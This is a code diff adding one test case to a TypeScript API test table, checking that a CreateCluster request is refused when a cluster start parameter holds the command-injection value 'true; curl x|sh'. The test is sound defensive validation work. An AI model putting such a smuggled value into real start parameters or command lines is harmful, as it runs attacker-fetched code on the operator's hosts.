@@ -285,6 +285,22 @@ export const CASES: Case[] = [
     },
   },
   {
+    name: "CreateCluster refuses a start parameter the shell would run",
+    rpc: `${CS}/CreateCluster`,
+    request: {
+      namespace: NS,
+      cluster: withSpec({
+        headGroupSpec: { engineStartParams: { block: "true; curl x|sh" } },
+      }),
+    },
+    want: {
+      code: 3,
+      message:
+        'Cannot create cluster "team-a/blue": cluster.clusterSpec.headGroupSpec.engineStartParams["block"]: must have a value the shell reads as plain text: ";" is allowed only in quotes (the operator puts it unquoted on a bash command line)',
+      fields: ['cluster.clusterSpec.headGroupSpec.engineStartParams["block"]'],
+    },
+  },
+  {
     name: "CreateCluster refuses a body namespace that differs from the path",
     rpc: `${CS}/CreateCluster`,
     request: { namespace: NS, cluster: sampleCluster({ namespace: "team-b" }) },
